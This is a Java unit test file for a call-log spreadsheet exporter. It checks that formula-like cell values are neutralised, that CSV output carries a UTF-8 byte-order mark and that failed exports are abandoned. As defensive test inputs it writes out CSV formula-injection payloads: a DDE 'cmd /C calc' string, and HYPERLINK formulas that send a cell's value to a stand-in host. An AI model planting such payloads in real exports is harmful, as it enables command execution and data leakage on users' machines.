package io.capconduit.reports;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class SheetWriterTests {

    @Test
    void textASpreadsheetWouldRunAsAFormulaIsNeutralisedButNumbersAndPhonesAreNot() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvSheetWriter csv = new CsvSheetWriter(bytes)) {
            csv.startSheet("Calls", List.of());
            csv.row("=1+1", "@SUM(A1)", "+HYPERLINK(\"http://x/?\"&A2,\"open\")", "-2+3+cmd|' /C calc'!A0", "\tx",
                    "+18005550101", "-5", "-2.5", "+1 (800) 555-0101", "+1-800-555-0101", "-1-2", "plain", 42);
        }
        String line = bytes.toString(StandardCharsets.UTF_8).split("\r\n")[1];

        // Excel reads +1-800-555-0101 as a sum (-1454): only a real number keeps its sign unquoted
        assertThat(line).isEqualTo("'=1+1,'@SUM(A1),\"'+HYPERLINK(\"\"http://x/?\"\"&A2,\"\"open\"\")\","
                + "'-2+3+cmd|' /C calc'!A0,'\tx,+18005550101,-5,-2.5,'+1 (800) 555-0101,'+1-800-555-0101,'-1-2,plain,42");
        assertThat(CsvSheetWriter.runsAsFormula("+1-800-555-0101")).isTrue();
    }

    /**
     * Where the list separator is ';' (Excel in most of Europe and Latin America), Excel opens a double-clicked csv
     * splitting lines at semicolons, not commas: a caller id "1;=HYPERLINK(...)" (';' and '=' are allowed in a SIP
     * URI's user part) then puts "=HYPERLINK(...)" at the start of a cell of its own, which runs. Each part after a
     * semicolon is neutralised as a cell's start is; a part that is a plain number is left alone.
     */
    @Test
    void aFormulaAfterASemicolonIsNeutralisedForExcelsThatSplitAtSemicolons() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvSheetWriter csv = new CsvSheetWriter(bytes)) {
            csv.startSheet("Calls", List.of());
            csv.row("1;=HYPERLINK(CHAR(104)&CHAR(116))", "Acme; @SUM(A1)", "a;+1-2;-5;b", "x;\t;", "=1;=2");
        }
        String line = bytes.toString(StandardCharsets.UTF_8).split("\r\n")[1];

        assertThat(line).isEqualTo("1;'=HYPERLINK(CHAR(104)&CHAR(116)),Acme; @SUM(A1),a;'+1-2;-5;b,x;'\t;,'=1;'=2");
        assertThat(CsvSheetWriter.neutralised("0800;+44 20 7946 0000")).isEqualTo("0800;'+44 20 7946 0000");
    }

    /** Excel opens a double-clicked csv in the ANSI code page unless it starts with a UTF-8 byte-order mark. */
    @Test
    void theCsvStartsWithAByteOrderMarkSoExcelReadsItAsUtf8() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        SheetWriter.export(new CsvSheetWriter(bytes), out -> {
            out.startSheet("Calls", List.of(new Column("Campaign", Column.Type.TEXT, 10)));
            out.row("Bogot\u00e1");
        });

        assertThat(bytes.toByteArray()).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(bytes.toString(StandardCharsets.UTF_8)).isEqualTo("\uFEFFCampaign\r\nBogot\u00e1\r\n");
    }

    /** The form for Excel users: ids and numbers that look like numbers stay text, as the call logs hold them. */
    @Test
    void theWorkbookKeepsIdLikeTextAsText() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        SheetWriter.export(new XlsxSheetWriter(bytes), out -> {
            out.startSheet("Calls", List.of(new Column("Linked id", Column.Type.TEXT, 24),
                    new Column("Caller id", Column.Type.TEXT, 16)));
            out.row("1732812345.10", "+18005550101");
        });

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes.toByteArray()))) {
            Row row = workbook.getSheetAt(0).getRow(1);
            assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(0).getStringCellValue()).isEqualTo("1732812345.10");
            assertThat(row.getCell(1).getStringCellValue()).isEqualTo("+18005550101");
        }
    }

    /** A failure midway leaves no file that looks whole: an xlsx is never written, a csv gets nothing more. */
    @Test
    void anExportThatFailsMidwayIsAbandonedNotCompleted() throws Exception {
        List<Column> columns = List.of(new Column("Call", Column.Type.TEXT, 10));
        for (boolean xlsx : new boolean[] {true, false}) {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            SheetWriter writer = xlsx ? new XlsxSheetWriter(bytes) : new CsvSheetWriter(bytes);

            assertThatThrownBy(() -> SheetWriter.export(writer, out -> {
                out.startSheet("Calls", columns);
                out.row("first");
                out.row("second");
                throw new IllegalStateException("the database went away");
            })).hasMessage("the database went away");

            assertThat(bytes.size()).as(xlsx ? "xlsx" : "csv").isZero();
        }
    }

    @Test
    void anExportThatSucceedsIsCompleted() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        SheetWriter.export(new CsvSheetWriter(bytes), out -> {
            out.startSheet("Calls", List.of(new Column("Call", Column.Type.TEXT, 10)));
            out.row("first");
        });
        assertThat(bytes.toString(StandardCharsets.UTF_8)).isEqualTo("\uFEFFCall\r\nfirst\r\n");
    }
}
